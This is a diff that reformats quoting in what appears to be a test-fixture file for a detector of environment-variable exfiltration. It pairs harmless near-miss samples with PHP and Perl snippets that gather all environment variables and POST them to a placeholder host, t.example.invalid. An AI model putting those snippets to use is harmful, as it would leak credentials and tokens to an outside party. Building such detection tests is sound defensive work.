@@ -46,12 +46,12 @@ HARM: dict[str, dict[str, str]] = {
         "t.php": (
             "<?php\n$lines = [];\nforeach (getenv() as $k => $v) {\n  $lines[] = $k . '=' . $v;\n}\n"
             "$c = curl_init('https://t.example.invalid/e');\n"
-            "curl_setopt($c, CURLOPT_POSTFIELDS, implode(\"\\n\", $lines));\ncurl_exec($c);\n"
+            'curl_setopt($c, CURLOPT_POSTFIELDS, implode("\\n", $lines));\ncurl_exec($c);\n'
         )
     },
     "Perl": {
         "t.pl": (
-            "my $body = join \"\\n\", map { \"$_=$ENV{$_}\" } keys %ENV;\n"
+            'my $body = join "\\n", map { "$_=$ENV{$_}" } keys %ENV;\n'
             "HTTP::Tiny->new->post('https://t.example.invalid/e', { content => $body });\n"
         )
     },
@@ -65,33 +65,33 @@ HARM: dict[str, dict[str, str]] = {
 HARMLESS: dict[str, dict[str, str]] = {
     "Rust, a program's own variables": {
         "main.rs": (
-            "let given: HashMap<String, String> = env::vars()\n    .filter(|(k, _)| k.starts_with(\"TOC_\"))\n"
+            'let given: HashMap<String, String> = env::vars()\n    .filter(|(k, _)| k.starts_with("TOC_"))\n'
             "    .collect();\nlet reply = client.post(url).json(&given).send()?;\n"
         )
     },
     "Rust, a child": {
         "main.rs": (
-            "let out = Command::new(\"make\").envs(env::vars()).output()?;\n"
+            'let out = Command::new("make").envs(env::vars()).output()?;\n'
             "let reply = client.post(url).json(&report).send()?;\n"
         )
     },
     "Go, a child": {
         "main.go": (
-            "func build() error {\n\tcmd := exec.Command(\"make\")\n\tcmd.Env = append(os.Environ(), \"CI=1\")\n"
+            'func build() error {\n\tcmd := exec.Command("make")\n\tcmd.Env = append(os.Environ(), "CI=1")\n'
             "\treturn cmd.Run()\n}\n\nfunc send(v []byte) {\n"
-            "\thttp.Post(host, \"text/plain\", bytes.NewReader(v))\n}\n"
+            '\thttp.Post(host, "text/plain", bytes.NewReader(v))\n}\n'
         )
     },
     "Go, the same name in two functions": {
         "main.go": (
             "func show() {\n\tfor _, v := range os.Environ() {\n\t\tfmt.Println(v)\n\t}\n}\n\nfunc send(v []byte) {\n"
-            "\thttp.Post(host, \"text/plain\", bytes.NewReader(v))\n}\n"
+            '\thttp.Post(host, "text/plain", bytes.NewReader(v))\n}\n'
         )
     },
     "Java, one of them": {
         "T.java": (
-            "Map<String, String> all = System.getenv();\nString key = all.get(\"TOC_KEY\");\n"
-            "var r = HttpRequest.newBuilder(HOME).header(\"Authorization\", key)\n"
+            'Map<String, String> all = System.getenv();\nString key = all.get("TOC_KEY");\n'
+            'var r = HttpRequest.newBuilder(HOME).header("Authorization", key)\n'
             "    .POST(HttpRequest.BodyPublishers.ofString(text)).build();\n"
         )
     },
@@ -99,9 +99,7 @@ HARMLESS: dict[str, dict[str, str]] = {
         "t.php": "<?php\n$key = getenv('TOC_KEY');\n$all = getenv();\nprint_r(array_keys($all));\n"
         "curl_setopt($c, CURLOPT_POSTFIELDS, $text);\ncurl_exec($c);\n"
     },
-    "Perl, printed": {
-        "t.pl": "print join \"\\n\", sort keys %ENV;\nHTTP::Tiny->new->post($at, { content => $text });\n"
-    },
+    "Perl, printed": {"t.pl": 'print join "\\n", sort keys %ENV;\nHTTP::Tiny->new->post($at, { content => $text });\n'},
 }
 
 
